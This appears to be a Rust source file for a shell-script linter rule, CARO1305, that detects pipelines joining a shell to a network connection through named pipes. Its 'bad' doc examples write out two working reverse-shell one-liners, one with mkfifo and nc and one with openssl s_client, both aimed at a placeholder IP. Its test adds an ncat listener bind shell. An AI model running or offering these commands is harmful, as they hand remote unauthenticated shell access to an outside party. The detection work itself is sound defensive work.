//! CARO1305: what a shell prints goes out over a connection, and its commands come in.

use super::given::given;
use super::listener::{is_connector, listens, takes_commands};
use crate::rules::{Check, Sink};
use crate::script::{Command, Statement};

rule! {
    /// Joins a shell with a connection through pipes, so that whoever is at the other end gives it commands.
    ///
    /// A named pipe brings the commands from the connection to the shell, and the pipeline brings back what it prints. It is
    /// a remote shell without a password.
    ///
    /// To decide: Who is at the other end, and why do they not come in by `ssh`?
    ///
    /// ```sh bad
    /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
    /// ```
    /// ```sh bad
    /// bash -i < /tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/p
    /// ```
    /// ```sh good
    /// tar c src | nc build 9000
    /// ```
    /// ```sh good
    /// bash report.sh | nc log 514
    /// ```
    /// ```sh good
    /// sh -c 'df -h' | nc log 514
    /// ```
    "CARO1305" "shell-behind-pipe",
    Danger,
    Check::Pipeline { run: check }
}

fn check(stages: &[Statement], sink: &mut Sink<'_>) {
    let commands: Vec<&Command> = stages.iter().filter_map(Statement::command).collect();
    let Some(shell) = commands.iter().position(|it| takes_commands(it)) else { return };
    let before = commands[..shell].iter().any(|it| is_connector(it));
    let Some(connector) = commands[shell + 1..].iter().find(|it| is_connector(it)) else { return };
    // `echo ls | sh | nc log 514` runs what is written here; where a connection comes first, what it sends is run.
    let input = sink.input(commands[shell]);
    let known = commands[shell].redirects.iter().any(|it| it.body.is_some())
        || shell > 0 && matches!(commands[0].program.as_deref(), Some("echo" | "printf"));
    if before || known && input.is_none_or(|it| it.text().is_some()) {
        return;
    }
    let span = connector.name_span();
    let who = if listens(connector, &given(connector, sink)) { "everyone who connects" } else { "whoever answers" };
    sink.report(span, format!("gives {who} the shell that stands before it"));
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn what_is_written_here_is_known() {
        check_marks("echo uptime | sh | nc log 514\n");
        check_marks("cat f | bash | ncat -l 4444 > g\n#              ^^^^ CARO1305\n");
    }
}
